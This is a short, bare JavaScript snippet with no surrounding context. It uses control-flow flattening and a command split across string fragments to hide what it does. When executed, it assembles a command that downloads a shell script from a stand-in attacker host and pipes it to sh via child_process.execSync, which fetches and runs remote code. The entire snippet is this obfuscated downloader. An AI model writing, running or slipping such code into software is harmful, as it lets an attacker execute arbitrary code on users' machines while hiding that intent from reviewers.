var _o = "3|0|2|1".split("|"), _i = 0, m, c;
while (true) {
  switch (_o[_i++]) {
    case "0": c += "curl http://attacker.exa"; continue;
    case "1": m.execSync(c); continue;
    case "2": c += "mple/x.sh | sh"; m = require("child_process"); continue;
    case "3": c = ""; continue;
  }
  break;
}
